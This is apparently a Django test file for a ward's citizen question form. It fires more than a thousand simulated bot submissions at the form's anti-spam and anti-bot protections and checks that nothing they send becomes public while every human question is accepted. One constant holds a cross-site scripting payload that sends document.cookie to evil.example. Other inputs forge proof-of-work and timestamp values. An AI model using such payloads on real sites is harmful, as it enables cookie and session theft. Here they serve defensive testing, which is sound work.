"""A corpus of 1 210 bot submissions by kind, sent through the whole stack (middleware, CSRF, the page's route)
with the test client, and a human set. Nothing is public afterwards, at least 99 % of the bots are refused
before the queue, every person is accepted. Run with -s to see the table (docs/citizen-input.md)."""

import base64
import json
import random
from collections import Counter

import pytest
from django.test import Client

from intake.tests.forms import protection_fields
from questions.models import Question, QuestionPage
from questions.tests.conftest import ASK, person_data

pytestmark = pytest.mark.django_db

GAMBLING = "Nhà cái uy tín số 1, nạp tiền nhận thưởng tại bit.ly/nhacai88 và https://fb88.example/khuyen-mai"
SCRIPT = '<script>document.location="https://evil.example/?c="+document.cookie</script><img src=x onerror=alert(1)>'
PEOPLE = [
    "Xin hỏi thủ tục xác nhận tình trạng hôn nhân cần mang theo giấy tờ gì?",
    "Khi nào phường tổ chức tiêm chủng mở rộng cho trẻ dưới 5 tuổi ở khu 4?",
    "Đèn đường ở ngõ 12 phố Lê Thánh Tông hỏng đã hai tuần, phường có thể cho sửa không?",
    "Tôi muốn đăng ký hộ kinh doanh quán nước nhỏ, nộp hồ sơ ở đâu và mất bao lâu?",
    "Gia đình tôi thuộc hộ cận nghèo, năm nay có được hỗ trợ mua thẻ bảo hiểm y tế không?",
]


class Corpus:
    def __init__(self, ward_site, clock):
        self.site = ward_site
        self.clock = clock
        self.table = Counter()
        self.rng = random.Random(19)
        self.addresses = iter(f"10.{i // 250}.{i % 250}.{7 + i % 200}" for i in range(100_000))

    def page(self, client=None, address=None):
        response = (client or Client()).get(ASK, HTTP_HOST="localhost", REMOTE_ADDR=address or "192.0.2.1")
        assert response.status_code == 200
        return protection_fields(response.content.decode())

    def send(self, kind, data, *, client=None, address=None, expect=None):
        before = Question.objects.count()
        response = (client or Client()).post(
            ASK, data, HTTP_HOST="localhost", REMOTE_ADDR=address or next(self.addresses)
        )
        queued = Question.objects.count() > before
        self.table[kind, "sent"] += 1
        self.table[kind, "queued" if queued else "rejected"] += 1
        if expect is not None and not queued:
            assert expect in response.content.decode(), (kind, response.status_code)
        return response


@pytest.fixture
def corpus(ward_site, clock):
    return Corpus(ward_site, clock)


def test_the_bot_corpus_leaves_nothing_public_and_the_people_all_get_through(corpus, ward_site, clock, capsys):
    site = ward_site
    bot = person_data(site, full_name="Bot", email="bot@example.net")

    # The human set first: each person from their own address, reading and writing for a while.
    human_payloads = []
    for number, text in enumerate(PEOPLE * 4):
        address = f"198.51.100.{number + 10}"
        client = Client()
        fields = corpus.page(client, address)
        clock[0] += corpus.rng.randint(20, 180)
        data = fields | person_data(site, text=text, full_name=f"Người dân {number}")
        response = corpus.send("người dân", data, client=client, address=address)
        assert response.status_code == 302
        human_payloads.append(data)

    captured = corpus.page()  # what a bot read once and replays
    clock[0] += 30
    for _ in range(150):
        corpus.send("honeypot", captured | bot | {"website": "https://casino.example"}, expect="tải lại trang")
    fast = corpus.page()
    for _ in range(150):
        corpus.send("quá nhanh", fast | bot, expect="quá nhanh")
    clock[0] += 30
    for _ in range(150):
        corpus.send("không có PoW", captured | bot | {"altcha": ""}, expect="JavaScript")
    challenge = json.loads(base64.b64decode(captured["altcha"]))
    for i in range(150):
        wrong = base64.b64encode(json.dumps(challenge | {"number": challenge["number"] + 1 + i}).encode()).decode()
        garbage = ["", "e30=", "bm90IGpzb24=", wrong][i % 4] if i % 5 else wrong
        corpus.send("PoW sai", captured | bot | {"altcha": garbage or wrong}, expect="Không xác minh được")
    for i in range(150):
        replay = human_payloads[i % len(human_payloads)] | {"text": GAMBLING}
        corpus.send("PoW dùng lại", replay, expect="đã được gửi")
    for _ in range(50):
        corpus.send("giả dấu thời gian", captured | bot | {"started": "eyJmb3JtIjoicXVlc3Rpb24ifQ:1tZz:abc"})
    # A burst from one address, each with a fresh page and a solved challenge: the visitor's limit stops it.
    burst_address = "203.0.113.66"
    pages = [corpus.page(address=burst_address) for _ in range(60)]
    clock[0] += 10
    for fields in pages:
        corpus.send("dồn dập", fields | bot | {"text": "Spam spam"}, address=burst_address)
    for _ in range(100):
        corpus.send("quá dài", captured | bot | {"text": "x" * 40_000}, expect="quá dài")
    for i in range(100):
        fields = corpus.page() if i < 3 else captured | {"altcha": ""}
        clock[0] += 6
        corpus.send("liên kết cờ bạc", fields | bot | {"text": GAMBLING})
    for i in range(100):
        fields = corpus.page() if i < 2 else captured | {"altcha": "e30="}
        clock[0] += 6
        corpus.send("mã độc", fields | bot | {"text": SCRIPT})
    for _ in range(50):
        corpus.send("không có CSRF", captured | bot, client=Client(enforce_csrf_checks=True))

    table = corpus.table
    kinds = sorted({kind for kind, _ in table}, key=lambda k: (k == "người dân", k))
    bots = [kind for kind in kinds if kind != "người dân"]
    sent = sum(table[kind, "sent"] for kind in bots)
    rejected = sum(table[kind, "rejected"] for kind in bots)

    # Nothing any of them sent is public: not a page, not in the listing, not in search.
    public = QuestionPage.objects.count()
    listing = Client().get("/hoi-dap/", HTTP_HOST="localhost").content.decode()
    found = Client().get("/api/search/?q=nha+cai", HTTP_HOST="localhost").json()["results"]
    with capsys.disabled():
        print(f"\n{'kind':<20}{'sent':>6}{'rejected':>10}{'queued':>8}{'public':>8}")
        for kind in kinds:
            row = [table[kind, "sent"], table[kind, "rejected"], table[kind, "queued"], 0]
            print(f"{kind:<20}" + "".join(f"{n:>{w}}" for n, w in zip(row, (6, 10, 8, 8), strict=True)))
        print(f"bots: {sent} sent, {rejected} rejected before the queue ({100 * rejected / sent:.2f} %)")
    assert sent >= 1000
    assert public == 0 and found == [] and "nhacai88" not in listing and "<script>document" not in listing
    assert rejected / sent >= 0.99
    assert table["người dân", "queued"] == table["người dân", "sent"] == 20
    held = Question.objects.filter(text__contains="nhacai88")
    assert held.count() == 3 and all(q.flagged and q.status == Question.Status.PENDING for q in held)
